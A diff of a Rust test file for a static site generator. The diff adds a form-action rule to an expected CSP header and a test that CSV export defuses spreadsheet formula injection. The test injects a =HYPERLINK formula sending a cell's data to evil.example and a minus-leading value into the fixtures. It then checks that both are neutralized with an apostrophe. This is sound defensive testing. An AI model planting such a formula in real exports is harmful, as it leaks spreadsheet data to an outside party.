@@ -49,7 +49,7 @@ fn hostile_site_builds_with_headers_and_no_payload_becomes_markup() {
         headers.lines().any(|line| line.trim()
             == "Content-Security-Policy: default-src 'self'; script-src 'self'; \
                 style-src 'self'; img-src 'self' data:; object-src 'none'; base-uri 'none'; \
-                frame-ancestors 'none'"),
+                form-action 'self'; frame-ancestors 'none'"),
         "_headers lacks the CSP:\n{headers}"
     );
 
@@ -84,5 +84,61 @@ fn hostile_site_builds_with_headers_and_no_payload_becomes_markup() {
         found.is_empty(),
         "payloads got through:\n{}",
         found.join("\n")
+    );
+}
+
+/// An organization named like a spreadsheet formula, and findings that start with a
+/// minus: the CSV neutralizes both with an apostrophe, so that a spreadsheet shows them
+/// as text; JSON keeps them as written.
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_text() {
+    let root = tempfile::tempdir().unwrap();
+    common::copy_dir(
+        &Path::new(MANIFEST).join("tests/fixtures/mini"),
+        root.path(),
+    );
+    let formula = r#"=HYPERLINK("https://evil.example/?d="&C2,"查看证书")"#;
+    let org = root.path().join("data/orgs/zd-materials.yaml");
+    let text = std::fs::read_to_string(&org).unwrap();
+    let named = text.replacen(
+        "name: 张店示例新型建材有限公司",
+        &format!("name: '{formula}'"),
+        1,
+    );
+    assert_ne!(named, text);
+    std::fs::write(&org, named).unwrap();
+    let inspection = root.path().join("data/inspections/insp-2025-001.yaml");
+    let text = std::fs::read_to_string(&inspection).unwrap();
+    std::fs::write(
+        &inspection,
+        text.replace(
+            "findings: 抽查证书均在有效期内。",
+            "findings: '-2+3 份证书过期'",
+        ),
+    )
+    .unwrap();
+    let output = root.path().join("out");
+    let build = Command::new(BIN)
+        .args(["build", "--root"])
+        .arg(root.path())
+        .arg("--output")
+        .arg(&output)
+        .output()
+        .unwrap();
+    assert!(
+        build.status.success(),
+        "{}",
+        String::from_utf8_lossy(&build.stderr)
+    );
+    let csv = std::fs::read_to_string(output.join("data/organizations.csv")).unwrap();
+    let quoted = formula.replace('"', "\"\"");
+    assert!(csv.contains(&format!("\"'{quoted}\"")), "{csv}");
+    assert!(!csv.contains(&format!(",\"{quoted}")), "{csv}");
+    let findings = std::fs::read_to_string(output.join("data/inspections.csv")).unwrap();
+    assert!(findings.contains(",'-2+3 份证书过期"), "{findings}");
+    let json = std::fs::read_to_string(output.join("data/organizations.json")).unwrap();
+    assert!(
+        json.contains(&formula.replace('"', "\\\"")),
+        "JSON keeps the value"
     );
 }
